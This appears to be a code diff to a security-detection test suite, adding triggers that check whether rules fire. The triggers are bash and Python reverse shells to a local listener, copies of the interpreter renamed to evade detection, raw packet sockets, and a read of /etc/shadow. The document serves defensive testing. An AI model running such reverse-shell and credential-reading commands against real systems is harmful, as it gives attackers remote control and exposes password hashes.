@@ -43,7 +43,47 @@ struct DetectTrigger {
         os.chmod('CHMODDED', 0o755)
         os.execv('EXECUTED', ['payload'])
         """
+        // A local listener (started untraced by the first trigger that needs it) for the reverse shells;
+        // connections complete in its backlog, nothing is accepted. It exits after 5 minutes. It closes every
+        // inherited fd first: holding the setup's output pipe would keep the setup from finishing.
+        let listen = """
+        [ -s \(dir)/port ] || { nohup \(py) -c "import os, socket, time
+        os.closerange(3, 65536)
+        s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(64)
+        open('\(dir)/port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('\(dir)/port.tmp', '\(dir)/port'); time.sleep(300)" </dev/null >/dev/null 2>&1 &
+        while [ ! -s \(dir)/port ]; do sleep 0.05; done; }
+        """
+        let port = "$(cat \(dir)/port)"
+        // python's reverse shell: the socket on 0, 1 and 2 (one alert: stdin), then EXEC (exit, or exec a shell).
+        let pyReverse = """
+        import os, socket, sys
+        s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
+        for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
+        EXEC
+        """
+        let packetSocket = """
+        import socket
+        socket.socket(socket.AF_PACKET, socket.TYPE, socket.htons(3)).close()
+        """
         return [
+            DetectTrigger(name: "bash reverse shell over /dev/tcp", setup: listen,
+                          action: "P=\(port); exec bash -c \"exec 0<>/dev/tcp/127.0.0.1/$P 1>&0 2>&0; exit 0\"",
+                          rules: ["Socket redirected to a standard stream"]),
+            DetectTrigger(name: "python reverse shell by a renamed interpreter", setup: listen + "\ncp \(py) \(dir)/updater",
+                          action: "exec \(dir)/updater -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os._exit(0)"))\" \(port)",
+                          rules: ["Socket redirected to a standard stream"]),
+            DetectTrigger(name: "python reverse shell that execs /bin/sh", setup: listen,
+                          action: "exec \(py) -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os.execv('/bin/sh', ['sh', '-c', 'exit 0'])"))\" \(port)",
+                          rules: ["Socket redirected to a standard stream", "Shell executed with a network socket as standard input"]),
+            DetectTrigger(name: "renamed interpreter reverse shell that execs bash", setup: listen + "\ncp \(py) \(dir)/syncd",
+                          action: "exec \(dir)/syncd -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os.execv('/bin/bash', ['bash', '-c', 'exit 0'])"))\" \(port)",
+                          rules: ["Socket redirected to a standard stream", "Shell executed with a network socket as standard input"]),
+            DetectTrigger(name: "raw packet socket", setup: "",
+                          action: "exec \(py) -c \"\(packetSocket.replacingOccurrences(of: "TYPE", with: "SOCK_RAW"))\"",
+                          rules: ["Packet socket created by a process other than known sniffers"]),
+            DetectTrigger(name: "cooked packet socket by a renamed interpreter", setup: "cp \(py) \(dir)/netmon",
+                          action: "exec \(dir)/netmon -c \"\(packetSocket.replacingOccurrences(of: "TYPE", with: "SOCK_DGRAM"))\"",
+                          rules: ["Packet socket created by a process other than known sniffers"]),
             DetectTrigger(name: "read /etc/shadow", setup: "", action: "exec cat /etc/shadow > /dev/null",
                           rules: ["Read sensitive file untrusted"]),
             DetectTrigger(name: "read shadow by a relative path", setup: "", action: "cd /etc && exec cat shadow > /dev/null",
